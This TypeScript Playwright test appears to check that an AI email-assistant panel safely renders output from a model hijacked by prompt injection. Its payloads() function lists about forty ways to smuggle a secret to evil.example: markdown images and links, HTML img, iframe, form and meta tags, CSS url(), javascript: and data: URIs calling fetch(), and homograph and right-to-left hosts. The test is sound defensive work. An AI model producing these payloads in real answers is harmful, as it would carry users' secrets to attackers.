/**
 * What a hijacked model writes, in a real panel: an answer, a draft, a question and a title full of ways to load, open, submit or link
 * something that carries a secret out. Nothing is asked of any host, nothing opens, and nothing that holds the secret can be pressed.
 */
import { createServer } from "node:http";

import { expect, type Frame } from "@playwright/test";
import { scriptedModel, toolUse } from "@vaultdesk/standins/bedrock/scripted-model.ts";

import { ANA_MAIL, test } from "./src/fixture.ts";
import { ask } from "./src/journey.ts";
import { ready } from "./src/steps.ts";

const SECRET = "TULIP-7731";

/** Ways to get the secret to this place, each of which would be a request of the browser, a page, or something to press. */
function payloads(to: string, evil = "evil.example"): string[] {
  const url = `${to}/?d=${SECRET}`;
  const host = new URL(to).host;
  return [
    `![image](${url})`,
    `![image][ref]\n\n[ref]: ${url}`,
    `[![image in a link](${url})](${url})`,
    `[link](${url})`,
    `[link by reference][ref2]\n\n[ref2]: ${url} "title"`,
    `<${url}>`,
    url,
    `www.${host}/${SECRET}`,
    `[entities](${url.replace("://", "&#58;&#47;&#47;")})`,
    `[escapes](${url.replace(":", String.raw`\:`)})`,
    `[no slashes](https:${host}/?d=${SECRET})`,
    `[no scheme](//${host}/?d=${SECRET})`,
    `[credentials](https://${SECRET}@${host}/)`,
    `[sub-domain](https://${SECRET}.${evil}/)`,
    `[punycode](https://xn--${SECRET.toLowerCase()}-fla.${evil}/)`,
    `[homograph](https://е${evil}/${SECRET})`,
    `[right to left \u202e](https://${evil}/${SECRET})`,
    `[script](javascript:fetch('${url}'))`,
    `[data](data:text/html,<script>fetch('${url}')</script>)`,
    `[mail](mailto:eve@${evil}?body=${SECRET})`,
    `[extension](chrome-extension://${"a".repeat(32)}/${SECRET})`,
    `[citation](vaultdesk-message:${SECRET})`,
    `[msg:${SECRET}]`,
    `<img src="${url}" onerror="fetch('${url}')">`,
    `<img srcset="${url} 2x">`,
    `<svg><image href="${url}"/><script href="${url}"/></svg>`,
    `<iframe src="${url}"></iframe><object data="${url}"></object><embed src="${url}">`,
    `<form action="${url}" method="post"><button autofocus>Go</button></form>`,
    `<link rel="prefetch" href="${url}"><link rel="dns-prefetch" href="//${SECRET}.${evil}">`,
    `<style>@import url(${url}); * { background: url(${url}) }</style>`,
    `<p style="background:url(${url})">styled</p>`,
    `<meta http-equiv="refresh" content="0;url=${url}"><base href="${url}">`,
    `<video poster="${url}" src="${url}" autoplay></video><audio src="${url}" autoplay></audio>`,
    `<a href="${url}" ping="${url}" download>anchor</a>`,
    `<input type="image" src="${url}"><details open ontoggle="fetch('${url}')">x</details>`,
    '```html\n<img src="' + url + '">\n```',
    `| a |\n| - |\n| ![cell](${url}) |`,
    `Footnote[^1]\n\n[^1]: ![note](${url})`,
    `$$\\href{${url}}{math}$$`,
    `> ![quoted](${url})\n\n- [ ] ![task](${url})`,
  ];
}

/** Elements that ask for something, can be pressed, or name the secret in anything but their text. */
function suspects(panel: Frame): Promise<string[]> {
  return panel.evaluate((secret) => {
    const found: string[] = [];
    const asking =
      "img,picture,source,svg image,iframe,object,embed,form,input,link[rel*=fetch],link[rel*=connect],video,audio,base,meta[http-equiv]";
    for (const element of document.querySelectorAll("[data-testid=answer] *")) {
      if (element.matches(`${asking},a,button,[style]`))
        found.push(`${element.tagName}: ${element.textContent}`);
    }
    for (const element of document.querySelectorAll("*")) {
      for (const { name, value } of element.attributes) {
        const harmless = element.matches("textarea,input") && name === "value";
        if (
          /evil\.example/.test(value) &&
          /^(?:src|srcset|href|action|style|poster|data|ping)$/.test(name)
        ) {
          found.push(`${name}=${value}`);
        }
        if (value.includes(secret) && !harmless && !["title", "aria-label"].includes(name)) {
          found.push(`${element.tagName} ${name}=${value}`);
        }
      }
    }
    const asked = performance.getEntriesByType("resource").map((entry) => entry.name);
    return [...found, ...asked.filter((name) => name.includes(secret) || name.includes("evil"))];
  }, SECRET);
}

test("nothing that a hijacked model writes loads, opens, submits or links anything", async ({
  world,
  desk,
}) => {
  let hits = 0;
  const sink = createServer((_request, response) => {
    hits += 1;
    response.end();
  });
  await new Promise<void>((listening) => {
    sink.listen(0, "127.0.0.1", listening);
  });
  const address = sink.address();
  // The loopback build may reach this machine: here only the panel itself stands between the model and the wire.
  const here = `http://127.0.0.1:${typeof address === "object" ? address?.port : 0}`;

  const { page, panel } = await ready(world, desk);
  await page.evaluate(() => {
    const heard: unknown[] = [];
    addEventListener("message", ({ data }) => heard.push(data));
    Reflect.set(globalThis, "heard", heard);
  });
  const opened: string[] = [];
  desk.context.on("page", (one) => opened.push(one.url()));
  page.on("dialog", () => opened.push("dialog"));
  page.on("download", () => opened.push("download"));

  const ways = [...payloads("https://evil.example"), ...payloads(here)];
  const answer = ways.map((way, at) => `Way ${at + 1}:\n\n${way}`).join("\n\n");
  const hostile = ways.filter((way) => !way.includes("\n")).join(" ");
  world.bedrock.setModel(
    scriptedModel([
      toolUse("draft_email_reply", {
        mode: "new",
        to: [ANA_MAIL],
        subject: hostile.slice(0, 480),
        body: `${hostile}\n\n${answer}`.slice(0, 40_000),
      }),
      answer,
    ]),
  );
  // Other addresses than the answer's: what a person wrote may be a link.
  await ask(
    panel,
    `Write to ${ANA_MAIL}. ${payloads("https://title.example", "title.example").join(" ")}`,
  );
  await expect(panel.getByTestId("draft-card")).toBeVisible();
  await expect(panel.getByTestId("answer").last()).toContainText(`Way ${ways.length}`);
  expect(await suspects(panel)).toEqual([]);

  // A person who presses whatever can be pressed there, by mouse and by keyboard.
  for (const step of await panel.getByTestId("step").locator("summary, button").all())
    await step.click();
  for (let tabs = 0; tabs < 5; tabs += 1) await page.keyboard.press("Tab");
  expect(await suspects(panel)).toEqual([]);

  // The list of conversations shows the question as a title.
  await panel.getByTestId("menu").click();
  await panel.getByTestId("menu-conversations").click();
  await expect(panel.getByText("Write to").first()).toBeVisible();
  expect(await suspects(panel)).toEqual([]);

  const [worker] = desk.context.serviceWorkers();
  const kept = await worker?.evaluate(async () => {
    const [local, session, badge] = await Promise.all([
      chrome.storage.local.get(null),
      chrome.storage.session.get(null),
      chrome.action.getBadgeText({}),
    ]);
    return JSON.stringify([local, session, badge]);
  });
  // The panel itself has no storage: in Gmail's page the browser denies it.
  expect(kept).not.toContain(SECRET);
  expect(await panel.evaluate(() => document.title)).not.toContain(SECRET);
  expect(await page.content()).not.toContain(SECRET);
  const heard = await page.evaluate(() => JSON.stringify(Reflect.get(globalThis, "heard")));
  expect(heard).not.toContain(SECRET);
  expect(opened).toEqual([]);
  expect(hits).toBe(0);
  sink.close();
});
